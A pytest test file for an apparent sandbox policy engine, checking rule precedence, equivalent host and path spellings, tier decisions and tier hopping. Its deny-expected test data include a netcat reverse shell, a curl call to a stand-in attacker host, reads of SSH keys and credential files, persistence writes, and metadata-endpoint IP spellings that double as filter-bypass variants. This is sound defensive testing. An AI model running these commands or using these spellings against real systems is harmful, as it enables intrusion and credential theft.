"""The one PolicyEngine: precedence, equivalent spellings, purity, the shipped tiers, hopping,
fix suggestions and multi-view decisions. Real policy files in tmp_path, the real tier templates
and the recorded dataset."""

from __future__ import annotations

import functools
import itertools
import os
import shlex
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sandhop.enforcement import events as ev
from sandhop.enforcement.engine import (TIERS, Decision, HopError, PolicyEngine, SandboxConfig,
                                        suggest_rule)
from sandhop.enforcement.policy import specialise

ROOTS = ev.Roots(tmp="/tmp/sh", home="/home/u", cwd="/work/proj",
                 site=("/opt/py/lib/python3.11/site-packages",), stdlib="/opt/py/lib/python3.11",
                 python="/opt/py")
TRACES = Path(__file__).resolve().parents[1] / "datasets" / "data" / "traces"
PROPERTY = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(scope="module")
def engine() -> PolicyEngine:
    return PolicyEngine(ROOTS)


def tier_rule(engine: PolicyEngine, tier: str, text: str) -> str:
    """The rule id of the tier file's own line `text` (ids carry line numbers, which move)."""
    ids = [r.rule_id for r in engine.load_tier(tier).rules if r.text == text and r.rule_id.startswith(f"{tier}:")]
    assert len(ids) == 1, f"{tier}.policy has no single line {text!r}"
    return ids[0]


def rule_ref(engine: PolicyEngine, ref: str | tuple[str, str]) -> str:
    return tier_rule(engine, *ref) if isinstance(ref, tuple) else ref


def decide(engine: PolicyEngine, config: SandboxConfig | str, category: str, target: str,
           detail: str = "") -> Decision:
    """Decide a normalised target the way the guard does: class from the one target_class."""
    if isinstance(config, str):
        config = SandboxConfig(config)
    return engine.decide_target(category, target, ev.target_class(category, target, detail), config)


def spawn(*argv: str) -> str:
    """A proc.spawn target as the recorder writes it (shell-quoted argv)."""
    return shlex.join(argv)


def write_policy(folder: Path, text: str, name: str = "p.policy") -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


# --------------------------------------------------------------------------- precedence, by hand

PRECEDENCE_POLICY = """\
default  allow
deny     fs.write  ${tmp}/locked/**
allow    fs.write  ${tmp}/**
redirect fs.write  ${tmp}/**         ${tmp}/overlay
allow    fs.write  ${tmp}/locked/ok
allow    fs.read   ${tmp}/**
"""


@pytest.mark.parametrize("category,target,effect,line", [
    ("fs.write", "${tmp}/locked/ok", "deny", 2),      # deny beats the later allow of the exact file
    ("fs.write", "${tmp}/locked/x", "deny", 2),       # deny beats redirect and allow
    ("fs.write", "${tmp}/free", "redirect", 4),       # redirect beats an earlier allow
    ("fs.read", "${tmp}/free", "allow", 6),           # allow beats the default
    ("fs.read", "${home}/x", "allow", 0),             # the default decides when nothing matches
])
def test_precedence_deny_redirect_allow_default(tmp_path, category, target, effect, line):
    path = write_policy(tmp_path, PRECEDENCE_POLICY)
    eng = PolicyEngine(ROOTS)
    d = decide(eng, eng.config(str(path)), category, target)
    assert d.effect == effect
    assert d.rule_id == (f"{path.resolve()}:{line}" if line else "p.policy:default")
    if effect == "redirect":
        assert d.redirect_to == "${tmp}/overlay"


def test_rule_order_within_the_file_does_not_change_the_effect(tmp_path):
    lines = PRECEDENCE_POLICY.splitlines()[1:]
    eng = PolicyEngine(ROOTS)
    for i, perm in enumerate(itertools.permutations(lines)):
        path = write_policy(tmp_path, "default allow\n" + "\n".join(perm) + "\n", f"p{i}.policy")
        cfg = eng.config(str(path))
        assert decide(eng, cfg, "fs.write", "${tmp}/locked/ok").effect == "deny"
        assert decide(eng, cfg, "fs.write", "${tmp}/free").effect == "redirect"


@pytest.mark.parametrize("grants,revocations,category,target,effect,rule_id", [
    # a grant allows what the tier's default denies
    (["net.connect pypi.org:443"], [], "net.connect", "pypi.org:443", "allow", "grant:1"),
    (["net.connect *.pypi.org:443"], [], "net.connect", "pypi.org:443", "deny", "medium:default"),
    (["proc.spawn curl"], [], "proc.spawn", spawn("/usr/bin/curl", "-s", "x"), "allow", "grant:1"),
    (["net.connect"], [], "net.connect", "example.com:80", "allow", "grant:1"),  # a bare category
    # a grant never beats a tier's deny or redirect (deny > redirect > allow)
    (["fs.read ${home}/.ssh/id_rsa"], [], "fs.read", "${home}/.ssh/id_rsa", "deny", ("low", "deny fs.* @home.secret")),
    (["net.connect metadata_ip:*"], [], "net.connect", "169.254.169.254:80", "deny", ("low", "deny net.* metadata_ip:*")),
    (["fs.write ${home}/.cache/**"], [], "fs.write", "${home}/.cache/pip/x", "redirect", ("medium", "redirect fs.write ${home}/** ${tmp}/sandhop-overlay")),
    # a revocation beats the tier's allows and the config's grants
    ([], ["fs.write ${tmp}/**"], "fs.write", "${tmp}/a", "deny", "revoke:1"),
    ([], ["net.connect loopback:*"], "net.connect", "127.0.0.1:8000", "deny", "revoke:1"),
    ([], ["proc.spawn"], "proc.spawn", spawn("${python}/bin/python3.11", "-c", "pass"), "deny", "revoke:1"),
    (["net.connect pypi.org:443"], ["net.connect pypi.org:*"], "net.connect", "pypi.org:443", "deny", "revoke:1"),
    # revocations beat the tier's redirects too
    ([], ["fs.write ${home}/**"], "fs.write", "${home}/.cache/x", "deny", "revoke:1"),
])
def test_grants_and_revocations_follow_precedence(engine, grants, revocations, category, target, effect, rule_id):
    cfg = engine.config("medium", grants=grants, revocations=revocations)
    d = decide(engine, cfg, category, target)
    assert (d.effect, d.rule_id) == (effect, rule_ref(engine, rule_id))


def test_grant_and_revoke_return_new_configs():
    base = SandboxConfig("medium")
    granted = base.grant("net.connect pypi.org:443").grant("net.connect pypi.org:443")
    assert granted.grants == ("net.connect pypi.org:443",) and base.grants == ()
    revoked = granted.revoke("fs.write ${tmp}/**")
    assert revoked.revocations == ("fs.write ${tmp}/**",) and revoked.grants == granted.grants
    assert hash(revoked) != hash(granted) and revoked != granted


# --------------------------------------------------------------------------- precedence, property

# A small universe: categories, targets with their classes, and patterns with a reference meaning
# written independently of the policy compiler.
UNIVERSE = {
    "fs.read": [("${tmp}/a", "tmp"), ("${tmp}/b/c", "tmp"), ("${home}/x", "home"),
                ("${home}/.ssh/id_rsa", "home.secret")],
    "fs.write": [("${tmp}/a", "tmp"), ("${tmp}/b/c", "tmp"), ("${home}/x", "home"),
                 ("${home}/.ssh/id_rsa", "home.secret")],
    "net.connect": [("a.com:443", "domain"), ("x.a.com:80", "domain"), ("127.0.0.1:80", "loopback"),
                    ("169.254.169.254:80", "metadata_ip")],
}
REFERENCE = {  # pattern -> (target, class) -> matches
    "*": lambda t, c: True,
    "@tmp": lambda t, c: c == "tmp",
    "@home.secret": lambda t, c: c == "home.secret",
    "@loopback": lambda t, c: c == "loopback",
    "${tmp}/**": lambda t, c: t == "${tmp}" or t.startswith("${tmp}/"),
    "${tmp}/a": lambda t, c: t == "${tmp}/a",
    "${tmp}/*": lambda t, c: t.startswith("${tmp}/") and "/" not in t[len("${tmp}/"):],
    "${home}/**": lambda t, c: t == "${home}" or t.startswith("${home}/"),
    "a.com:443": lambda t, c: t == "a.com:443",
    "*.a.com:*": lambda t, c: t.rsplit(":", 1)[0].endswith(".a.com"),
    "loopback:*": lambda t, c: c == "loopback",
    "*:80": lambda t, c: t.endswith(":80"),
    "metadata_ip:*": lambda t, c: c == "metadata_ip",
}
FS_PATTERNS = ["*", "@tmp", "@home.secret", "${tmp}/**", "${tmp}/a", "${tmp}/*", "${home}/**"]
NET_PATTERNS = ["*", "@loopback", "a.com:443", "*.a.com:*", "loopback:*", "*:80", "metadata_ip:*"]
SPECS = {  # category spec -> (categories of the universe it covers, patterns valid for it)
    "fs.read": ({"fs.read"}, FS_PATTERNS), "fs.write": ({"fs.write"}, FS_PATTERNS),
    "fs.*": ({"fs.read", "fs.write"}, FS_PATTERNS),
    "net.connect": ({"net.connect"}, NET_PATTERNS), "net.*": ({"net.connect"}, NET_PATTERNS),
    "*": (set(UNIVERSE), ["*", "@tmp", "@home.secret", "@loopback"]),
}


@st.composite
def rule_specs(draw, effects=("allow", "deny", "redirect")):
    spec = draw(st.sampled_from(sorted(SPECS)))
    return draw(st.sampled_from(effects)), spec, draw(st.sampled_from(SPECS[spec][1]))


@pytest.fixture(scope="module")
def policy_dir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("policies")


_counter = itertools.count()


@PROPERTY
@given(default=st.sampled_from(["allow", "deny"]),
       rules=st.lists(rule_specs(), max_size=8),
       grants=st.lists(rule_specs(("allow",)), max_size=2),
       revocations=st.lists(rule_specs(("deny",)), max_size=2))
def test_precedence_holds_for_random_rule_sets(policy_dir, default, rules, grants, revocations):
    lines = [f"default {default}"] + [
        f"{effect} {spec} {pattern}" + (f" ${{tmp}}/r{i}" if effect == "redirect" else "")
        for i, (effect, spec, pattern) in enumerate(rules)]
    path = write_policy(policy_dir, "\n".join(lines) + "\n", f"r{next(_counter)}.policy")
    eng = PolicyEngine(ROOTS)
    cfg = eng.config(str(path), grants=[f"{s} {p}" for _, s, p in grants],
                     revocations=[f"{s} {p}" for _, s, p in revocations])
    name = str(path.resolve())
    # (rule_id, effect, spec, pattern, destination) of every rule the config holds
    everything = [(f"{name}:{i + 2}", e, s, p, f"${{tmp}}/r{i}" if e == "redirect" else "")
                  for i, (e, s, p) in enumerate(rules)]
    everything += [(f"grant:{i}", "allow", s, p, "") for i, (_, s, p) in enumerate(grants, 1)]
    everything += [(f"revoke:{i}", "deny", s, p, "") for i, (_, s, p) in enumerate(revocations, 1)]
    compiled = {r.rule_id: r for r in eng.load_file(path).rules}
    for category, targets in UNIVERSE.items():
        for target, cls in targets:
            matching = [r for r in everything if category in SPECS[r[2]][0] and REFERENCE[r[3]](target, cls)]
            for rule_id, *_ in matching:  # each rule's own compiled predicate agrees with the reference
                if rule_id in compiled:
                    assert specialise(compiled[rule_id], category)(target, cls), (rule_id, target)
            expected = next((e for e in ("deny", "redirect", "allow") if any(r[1] == e for r in matching)), None)
            d = eng.decide_target(category, target, cls, cfg)
            if expected is None:
                assert (d.effect, d.rule_id) == (default, f"{path.name}:default")
            else:
                assert d.effect == expected, (category, target, lines, d)
                deciders = {r[0]: r[4] for r in matching if r[1] == expected}
                assert d.rule_id in deciders
                assert d.redirect_to == deciders[d.rule_id]


# --------------------------------------------------------------------------- equivalent spellings: hosts

def ipv4_spellings(ip: str) -> list[str]:
    """Spellings the C resolver accepts for one IPv4 address."""
    a, b, c, d = (int(x) for x in ip.split("."))
    n = (a << 24) | (b << 16) | (c << 8) | d
    return [ip, str(n), hex(n), hex(n).upper().replace("X", "x"), "0" + oct(n)[2:],
            ".".join("0" + oct(x)[2:] for x in (a, b, c, d)), ".".join(hex(x) for x in (a, b, c, d)),
            f"{a}.{(b << 16) | (c << 8) | d}", f"{a}.{b}.{(c << 8) | d}", ip + ".",
            f"::ffff:{ip}", f"::FFFF:{ip}", f"::ffff:{(a << 8) | b:x}:{(c << 8) | d:x}",
            f"0:0:0:0:0:ffff:{ip}"]


IPV4 = ["127.0.0.1", "169.254.169.254", "169.254.170.2", "100.100.100.200", "10.1.2.3", "8.8.8.8"]
IPV6 = {"::1": ["::1", "0:0:0:0:0:0:0:1", "0000::0001", "::0:1"],
        "fd00:ec2::254": ["fd00:ec2::254", "FD00:EC2::254", "fd00:ec2:0:0:0:0:0:254", "fd00:0ec2::0254"]}
NAMES = {"pypi.org": ["pypi.org", "PyPI.Org", "pypi.org.", "PYPI.ORG.", "pypi\u3002org", "\uff50\uff59\uff50\uff49.org"],
         "xn--bcher-kva.de": ["bücher.de", "BÜCHER.DE", "bücher.de.", "xn--bcher-kva.de", "XN--BCHER-KVA.de."],
         "metadata.google.internal": ["metadata.google.internal", "METADATA.google.internal."],
         "localhost": ["localhost", "LOCALHOST", "localhost."],
         "files.example.com": ["files.example.com", "FILES.Example.COM."]}
CANONICAL_SPELLINGS = ([(ip, s) for ip in IPV4 for s in ipv4_spellings(ip)]
                       + [(ip, s) for ip, ss in IPV6.items() for s in ss]
                       + [(name, s) for name, ss in NAMES.items() for s in ss])


@pytest.fixture(scope="module")
def host_policy(tmp_path_factory) -> Path:
    return write_policy(tmp_path_factory.mktemp("hosts"), (
        "extends medium\n"
        "allow net.connect bücher.de:443\n"
        "allow net.connect *.EXAMPLE.com.:*\n"
        "allow net.connect 2130706433:9000\n"
        "deny  net.connect [::ffff:10.0.0.0/104]:*\n"
        "allow net.dns     *\n"
        "deny  net.dns     10.0.0.0/8\n"
    ), "hosts.policy")


@PROPERTY
@given(st.sampled_from(CANONICAL_SPELLINGS), st.sampled_from([80, 443, 9000, 8080]),
       st.sampled_from(["observe", "low", "medium", "high", "lockdown", "file"]))
def test_equivalent_host_spellings_get_the_same_decision(engine, host_policy, pair, port, tier):
    canonical, spelling = pair
    cfg = engine.config(str(host_policy)) if tier == "file" else SandboxConfig(tier)
    target = ev.format_address(spelling, port)
    assert target == ev.format_address(canonical, port)
    assert decide(engine, cfg, "net.connect", target) == decide(engine, cfg, "net.connect",
                                                                 ev.format_address(canonical, port))
    name = ev.normalise_host(spelling)
    assert name == canonical
    assert decide(engine, cfg, "net.dns", name) == decide(engine, cfg, "net.dns", canonical)


@pytest.mark.parametrize("spelling", ipv4_spellings("169.254.169.254") + ["metadata.google.internal.",
                                                                          "[fd00:ec2::254]"])
@pytest.mark.parametrize("tier", ["low", "medium", "high", "lockdown"])
def test_every_spelling_of_a_metadata_endpoint_is_denied(engine, tier, spelling):
    target = ev.format_address(spelling, 80)
    d = decide(engine, tier, "net.connect", target)
    assert (d.effect, d.rule_id) == ("deny", tier_rule(engine, "low", "deny net.* metadata_ip:*"))
    assert decide(engine, tier, "net.dns", ev.normalise_host(spelling)).effect == "deny"
    assert decide(engine, tier, "browser.request", f"http://{target}/latest/meta-data/").effect == "deny"


def test_idna_and_case_reach_a_unicode_rule(engine, host_policy):
    cfg = engine.config(str(host_policy))
    for spelling in ("bücher.de", "BÜCHER.de.", "xn--bcher-kva.de"):
        d = decide(engine, cfg, "net.connect", ev.format_address(spelling, 443))
        assert d.effect == "allow" and d.rule_text == "allow net.connect bücher.de:443"
    assert decide(engine, cfg, "net.connect", "bucher.de:443").effect == "deny"
    assert decide(engine, cfg, "net.connect", ev.format_address("WWW.example.com.", 1)).effect == "allow"


# --------------------------------------------------------------------------- equivalent spellings: paths

@pytest.fixture(scope="module")
def machine(tmp_path_factory):
    """A small machine in a temporary folder: roots, secrets, and symlinks that lead to them."""
    base = Path(os.path.realpath(tmp_path_factory.mktemp("machine")))
    for d in ("tmp/work/sub", "home/.ssh", "home/.cache/pip", "cwd/src", "py/lib/python3.11/site-packages"):
        (base / d).mkdir(parents=True)
    for f in ("home/.ssh/id_rsa", "home/.bashrc", "home/.cache/pip/x", "tmp/work/a.txt", "cwd/src/m.py"):
        (base / f).write_text("x")
    (base / "tmp/work/keys").symlink_to(base / "home/.ssh")
    (base / "tmp/work/rc").symlink_to(base / "home/.bashrc")
    (base / "tmp/work/home").symlink_to(base / "home")
    (base / "cwd/scratch").symlink_to(base / "tmp/work")
    roots = ev.Roots(tmp=str(base / "tmp"), home=str(base / "home"), cwd=str(base / "cwd"),
                     site=(str(base / "py/lib/python3.11/site-packages"),),
                     stdlib=str(base / "py/lib/python3.11"), python=str(base / "py"))
    return base, roots, PolicyEngine(roots)


# real file (relative to the machine) -> other routes to it (through symlinks)
ROUTES = {
    "home/.ssh/id_rsa": ["tmp/work/keys/id_rsa", "tmp/work/home/.ssh/id_rsa", "cwd/scratch/keys/id_rsa",
                         "tmp/work/keys/../.ssh/id_rsa"],
    "home/.bashrc": ["tmp/work/rc", "tmp/work/home/.bashrc", "cwd/scratch/rc"],
    "home/.cache/pip/x": ["tmp/work/home/.cache/pip/x"],
    "tmp/work/a.txt": ["cwd/scratch/a.txt", "tmp/work/home/../tmp/work/a.txt"],
    "cwd/src/m.py": [],
    "py/lib/python3.11/site-packages/evil.pth": [],
}


@st.composite
def path_spellings(draw):
    real = draw(st.sampled_from(sorted(ROUTES)))
    route = draw(st.sampled_from([real] + ROUTES[real]))
    out = []
    for part in route.split("/"):
        for _ in range(draw(st.integers(0, 2))):
            out.append(draw(st.sampled_from([".", "", "zz/..", "sub/.."])))
        out.append(part)
    return real, "/".join(out)


@PROPERTY
@given(path_spellings(), st.sampled_from(["fs.read", "fs.write", "fs.delete"]),
       st.sampled_from(["low", "medium", "high"]))
def test_equivalent_path_spellings_get_the_same_decision(machine, spelled, category, tier):
    base, roots, eng = machine
    real, spelling = spelled
    canonical = ev.portable_path(ev.normalise_path(str(base / real)), roots)
    target = ev.portable_path(ev.normalise_path(f"{base}//{spelling}"), roots)
    assert target == canonical
    relative = ev.portable_path(ev.normalise_path("./" + spelling, cwd=str(base)), roots)
    assert relative == canonical
    cls = ev.target_class(category, target)
    assert eng.decide_target(category, target, cls, SandboxConfig(tier)) == \
        eng.decide_target(category, canonical, ev.target_class(category, canonical), SandboxConfig(tier))


def test_a_symlink_does_not_launder_a_secret(machine):
    base, roots, eng = machine
    target = ev.portable_path(ev.normalise_path(base / "tmp/work/keys/id_rsa"), roots)
    assert target == "${home}/.ssh/id_rsa"
    assert decide(eng, "medium", "fs.read", target).effect == "deny"
    rc = ev.portable_path(ev.normalise_path(base / "cwd/scratch/rc"), roots)
    assert rc == "${home}/.bashrc"
    assert decide(eng, "medium", "fs.write", rc).rule_text == "deny fs.write ${home}/.bashrc"


# --------------------------------------------------------------------------- determinism and purity

QUERIES = [(c, t, cls) for c, ts in UNIVERSE.items() for t, cls in ts] + [
    ("fs.write", "${home}/.cache/x", "home"), ("env.read", "GITHUB_TOKEN", "env.secret"),
    ("env.read", "HOME", "env"), ("proc.spawn", spawn("bash", "-c", "x"), "other"),
    ("proc.spawn", spawn("/usr/bin/curl", "x"), "system"), ("net.dns", "foo.invalid", "domain"),
    ("net.connect", "pypi.org:443", "domain"), ("sys.tamper", "addaudithook", "interpreter"),
    ("code.native", "<self>", "self"), ("no.such", "x", "other"),
]
CONFIGS = [SandboxConfig(t) for t in TIERS] + [
    SandboxConfig("medium", grants=("net.connect pypi.org:443",)),
    SandboxConfig("medium", revocations=("fs.write ${tmp}/**",)),
    SandboxConfig("high", grants=("proc.spawn bash",), revocations=("env.read",)),
]


@functools.lru_cache(maxsize=None)
def fresh_decision(query: tuple[str, str, str], config: SandboxConfig) -> Decision:
    """The decision of a brand-new engine that has decided nothing else."""
    return PolicyEngine(ROOTS).decide_target(*query, config)


@PROPERTY
@given(st.lists(st.tuples(st.sampled_from(QUERIES), st.sampled_from(CONFIGS)), min_size=1, max_size=40),
       st.integers(1, 8), st.sets(st.integers(0, 39)))
def test_decisions_do_not_depend_on_order_or_cache(sequence, cache_size, clear_at):
    fresh = [fresh_decision(q, cfg) for q, cfg in sequence]
    warmed = PolicyEngine(ROOTS, cache_size=cache_size)
    for q, cfg in reversed(sequence):  # warm it with the same and other decisions, other order
        warmed.decide_target(*q, cfg)
    got = []
    for i, (q, cfg) in enumerate(sequence):
        if i in clear_at:
            warmed.cache_clear()
        got.append(warmed.decide_target(*q, cfg))
    assert got == fresh


def test_unknown_category_fails_closed(engine):
    d = engine.decide_target("no.such", "x", "other", SandboxConfig("observe"))
    assert (d.effect, d.rule_id) == ("deny", "engine:unknown-category")


def test_decide_reads_the_events_fields(engine):
    event = ev.Event(category="fs.read", op="open", target="${home}/.ssh/id_rsa", target_class="home.secret")
    assert engine.decide(event, SandboxConfig("medium")) == \
        engine.decide_target("fs.read", "${home}/.ssh/id_rsa", "home.secret", SandboxConfig("medium"))


def test_config_equality_ignores_nothing_that_decides():
    # Equal keys are the cache's promise: configs with equal keys decide the same.
    a = SandboxConfig("medium", grants=("net.connect a.com:443",))
    b = SandboxConfig("medium").grant("net.connect a.com:443")
    assert a == b and hash(a) == hash(b) and a.key == b.key


# --------------------------------------------------------------------------- the shipped tiers

PY = "${python}/bin/python3.11"
MEDIUM = [
    ("fs.write", "${tmp}/pytest-of-u/pytest-0/test_x0/out.txt", "", "allow"),
    ("fs.delete", "${tmp}/x", "", "allow"),
    ("fs.read", "${cwd}/tests/data.json", "", "allow"),
    ("fs.write", "${cwd}/build/x", "", "allow"),
    ("fs.write", "/dev/null", "", "allow"),
    ("fs.write", "${site}/pkg/__pycache__/m.cpython-311.pyc", "", "allow"),
    ("net.connect", "127.0.0.1:8000", "", "allow"),
    ("net.connect", "[::1]:8000", "", "allow"),
    ("net.connect", "localhost:8000", "", "allow"),
    ("net.bind", "127.0.0.1:0", "", "allow"),
    ("net.bind", "0.0.0.0:0", "", "allow"),
    ("net.connect", "${tmp}/s.sock", "unix", "allow"),
    ("net.dns", "localhost", "", "allow"),
    ("proc.spawn", spawn(PY, "-c", "pass"), "", "allow"),
    ("proc.spawn", spawn(PY, "-m", "pip", "--version"), "", "allow"),
    ("proc.spawn", spawn("git", "status"), "", "allow"),
    ("proc.spawn", spawn("/usr/bin/git", "init"), "", "allow"),
    ("proc.spawn", spawn("bash", "-c", "echo hi"), "", "allow"),
    ("code.import", "requests", "", "allow"),
    ("code.native", "${site}/markupsafe/_speedups.so", "", "allow"),
    ("env.read", "HOME", "", "allow"),
    ("env.write", "MY_SETTING", "", "allow"),
    ("fs.read", "${home}/.ssh/id_rsa", "", "deny"),
    ("fs.read", "${home}/.aws/credentials", "", "deny"),
    ("fs.read", "${home}/.env", "", "deny"),
    ("fs.read", "/etc/shadow", "", "deny"),
    ("fs.read", "/proc/self/environ", "", "deny"),
    ("fs.read", "/proc/1234/environ", "", "deny"),
    ("fs.write", "${home}/.bashrc", "", "deny"),
    ("fs.write", "${home}/.profile", "", "deny"),
    ("fs.write", "${home}/.config/systemd/user/evil.service", "", "deny"),
    ("fs.write", "${site}/evil.pth", "", "deny"),
    ("fs.write", "${site}/sitecustomize.py", "", "deny"),
    ("fs.write", "${stdlib}/os.py", "", "deny"),
    ("fs.write", "/etc/cron.d/evil", "", "deny"),
    ("net.connect", "169.254.169.254:80", "", "deny"),
    ("net.connect", "metadata.google.internal:80", "", "deny"),
    ("net.connect", "pypi.org:443", "", "deny"),
    ("net.connect", "151.101.0.223:443", "", "deny"),
    ("net.connect", "10.0.0.5:5432", "", "deny"),
    ("net.connect", "/run/docker.sock", "unix", "deny"),
    ("net.dns", "pypi.org", "", "deny"),
    ("proc.spawn", spawn("curl", "https://evil.example/x"), "", "deny"),
    ("proc.spawn", spawn("/usr/bin/curl", "-s", "x"), "", "deny"),
    ("proc.spawn", spawn("nc", "-e", "/bin/sh", "1.2.3.4", "4444"), "", "deny"),
    ("env.write", "LD_PRELOAD", "", "deny"),
    ("fs.write", "${home}/.cache/pip/http/x", "", "redirect"),
    ("fs.write", "${home}/.config/app/settings.toml", "", "redirect"),
    ("fs.delete", "${home}/.cache/x", "", "redirect"),
    ("env.read", "AWS_SECRET_ACCESS_KEY", "", "redirect"),
    ("env.read", "GITHUB_TOKEN", "", "redirect"),
    ("env.read", "*", "", "redirect"),                 # the whole environment (os.environ.copy)
    ("net.dns", "nothing.invalid", "", "redirect"),
]


@pytest.mark.parametrize("category,target,detail,effect", MEDIUM)
def test_medium_tier(engine, category, target, detail, effect):
    d = decide(engine, "medium", category, target, detail)
    assert d.effect == effect, d.reason
    if effect == "redirect" and category in ("fs.write", "fs.delete"):
        assert d.redirect_to == "${tmp}/sandhop-overlay"
    if effect == "redirect" and category == "env.read":
        assert d.redirect_to == "unset"


@pytest.mark.parametrize("category,target,effect", [
    ("net.connect", "pypi.org:443", "allow"),
    ("net.connect", "151.101.0.223:443", "allow"),
    ("net.dns", "pypi.org", "allow"),
    ("proc.spawn", spawn("curl", "https://pypi.org"), "allow"),
    ("fs.write", "${home}/.cache/x", "allow"),
    ("net.connect", "169.254.169.254:80", "deny"),
    ("net.connect", "[fd00:ec2::254]:80", "deny"),
    ("net.connect", "100.100.100.200:80", "deny"),
    ("net.dns", "metadata.google.internal", "deny"),
    ("fs.read", "${home}/.ssh/id_rsa", "deny"),
    ("fs.read", "/proc/self/environ", "deny"),
    ("fs.write", "${home}/.bashrc", "deny"),
    ("env.read", "GITHUB_TOKEN", "redirect"),
    ("sys.tamper", "socket.sethostname", "deny"),
])
def test_low_tier(engine, category, target, effect):
    assert decide(engine, "low", category, target).effect == effect


@pytest.mark.parametrize("category,target,effect", [
    ("proc.spawn", spawn("bash", "-c", "x"), "deny"),
    ("proc.spawn", spawn("git", "status"), "deny"),
    ("proc.spawn", spawn(PY, "-c", "pass"), "allow"),
    ("fs.write", "${tmp}/x", "allow"),
    ("fs.write", "${cwd}/x", "deny"),
    ("fs.read", "${home}/notes.txt", "deny"),
    ("fs.write", "${home}/.cache/x", "redirect"),
    ("net.connect", "127.0.0.1:80", "allow"),
    ("net.bind", "0.0.0.0:0", "deny"),
    ("env.read", "GITHUB_TOKEN", "deny"),
    ("env.read", "HOME", "allow"),
    ("code.native", "${site}/x.so", "allow"),
    ("code.native", "libc.so.6", "deny"),
    ("sys.tamper", "addaudithook", "deny"),
])
def test_high_tier(engine, category, target, effect):
    assert decide(engine, "high", category, target).effect == effect


def test_lockdown_tier_is_high_without_native_self(engine):
    assert decide(engine, "lockdown", "code.native", "<self>").effect == "deny"
    assert decide(engine, "high", "code.native", "<self>").effect == "deny"  # high's default
    assert decide(engine, "lockdown", "proc.spawn", spawn("bash")).effect == "deny"
    assert decide(engine, "lockdown", "fs.write", "${tmp}/x").effect == "allow"


@pytest.mark.parametrize("category,target,detail", [t[:3] for t in MEDIUM])
def test_observe_allows_everything(engine, category, target, detail):
    d = decide(engine, "observe", category, target, detail)
    assert (d.effect, d.rule_id) == ("allow", "observe:default")


@pytest.mark.parametrize("category,target,detail", [t[:3] for t in MEDIUM])
def test_tiers_are_ordered_by_strictness(engine, category, target, detail):
    # What a stricter tier allows, every more permissive tier allows too (redirects count as
    # restrictions), except high's redirect of HOME writes, which medium shares.
    rank = {"allow": 0, "redirect": 1, "deny": 2}
    ranks = [rank[decide(engine, t, category, target, detail).effect] for t in TIERS]
    assert ranks == sorted(ranks), list(zip(TIERS, ranks))


# --------------------------------------------------------------------------- the recorded dataset through medium

@pytest.fixture(scope="module")
def dataset_engine() -> PolicyEngine:
    return PolicyEngine()  # this machine's roots, as the plugin builds it


def replay(eng: PolicyEngine, suite: str) -> tuple[int, list[tuple[str, str, str, str, str]]]:
    from sandhop.datasets.traces import read_traces
    table = read_traces(TRACES, suite)
    cfg = SandboxConfig("medium")
    rows = table.select(["test_id", "category", "op", "target", "target_class"]).to_pylist()
    denied = []
    for row in rows:
        event = ev.Event(category=row["category"], op=row["op"], target=row["target"],
                         target_class=row["target_class"])
        d = eng.decide(event, cfg)
        if d.effect == "deny":
            denied.append((row["test_id"], row["category"], row["target"], row["target_class"], d.rule_id))
    return len(rows), denied


@pytest.mark.parametrize("suite", ["markupsafe==3.0.4", "click==8.5.1"])
def test_ordinary_suites_replay_through_medium_without_a_deny(dataset_engine, suite):
    # Every recorded event, in every phase: these suites pass, so medium must not break them.
    n, denied = replay(dataset_engine, suite)
    assert n > 0
    assert denied == [], f"{len(denied)} denied, first: {denied[:3]}"


# --------------------------------------------------------------------------- hopping

def test_escalation_is_immediate_and_deescalation_waits_for_the_boundary(engine):
    cfg = SandboxConfig("low")
    assert decide(engine, cfg, "net.connect", "pypi.org:443").effect == "allow"
    up = cfg.hop_to("high")
    assert (up.tier, up.pending) == ("high", "")
    assert decide(engine, up, "net.connect", "pypi.org:443").effect == "deny"
    down = up.hop_to("medium")
    assert (down.tier, down.level, down.pending) == ("high", 3, "medium")
    assert decide(engine, down, "proc.spawn", spawn("bash")).effect == "deny"   # still high
    after = down.at_test_boundary()
    assert (after.tier, after.level, after.pending) == ("medium", 2, "")
    assert decide(engine, after, "proc.spawn", spawn("bash")).effect == "allow"
    assert after.at_test_boundary() == after


def test_an_escalation_cancels_a_pending_deescalation():
    cfg = SandboxConfig("high").hop_to("low")
    assert cfg.pending == "low"
    cfg = cfg.hop_to("lockdown")
    assert (cfg.tier, cfg.pending) == ("lockdown", "")
    assert cfg.at_test_boundary().tier == "lockdown"


def test_hopping_keeps_grants_and_revocations(engine):
    cfg = engine.config("medium", grants=["net.connect pypi.org:443"]).hop_to("high")
    assert cfg.grants == ("net.connect pypi.org:443",)
    assert decide(engine, cfg, "net.connect", "pypi.org:443").rule_id == "grant:1"


def test_lockdown_is_one_way():
    cfg = SandboxConfig("medium").hop_to("lockdown")
    assert cfg.tier == "lockdown"
    for tier in ("observe", "low", "medium", "high"):
        with pytest.raises(HopError, match="one-way"):
            cfg.hop_to(tier)
    assert cfg.hop_to("lockdown") == cfg
    assert cfg.at_test_boundary().tier == "lockdown"


def test_unknown_tier_is_an_error():
    with pytest.raises(ValueError, match="unknown tier 'nope'"):
        SandboxConfig("nope")
    with pytest.raises(ValueError, match="unknown tier 'nope'"):
        SandboxConfig("medium").hop_to("nope")


def test_hop_to_a_policy_file_uses_the_level_it_extends(tmp_path):
    eng = PolicyEngine(ROOTS)
    strict = write_policy(tmp_path, "extends high\nallow net.connect pypi.org:443\n", "strict.policy")
    loose = write_policy(tmp_path, "extends low\n", "loose.policy")
    cfg = eng.config("medium")
    up = eng.hop(cfg, str(strict))
    assert (up.tier, up.level, up.pending) == (str(strict.resolve()), 3, "")
    assert decide(eng, up, "net.connect", "pypi.org:443").effect == "allow"
    assert decide(eng, up, "proc.spawn", spawn("bash")).effect == "deny"
    down = eng.hop(up, str(loose))
    assert (down.tier, down.pending) == (str(strict.resolve()), str(loose.resolve()))
    assert decide(eng, down.at_test_boundary(), "net.connect", "example.org:80").effect == "allow"


def test_after_deescalating_to_a_policy_file_escalation_is_immediate(tmp_path):
    eng = PolicyEngine(ROOTS)
    loose = write_policy(tmp_path, "extends low\n", "loose.policy")
    cfg = eng.hop(eng.config("high"), str(loose)).at_test_boundary()
    assert cfg.tier == str(loose.resolve())
    assert decide(eng, cfg, "net.connect", "pypi.org:443").effect == "allow"   # low's rules now
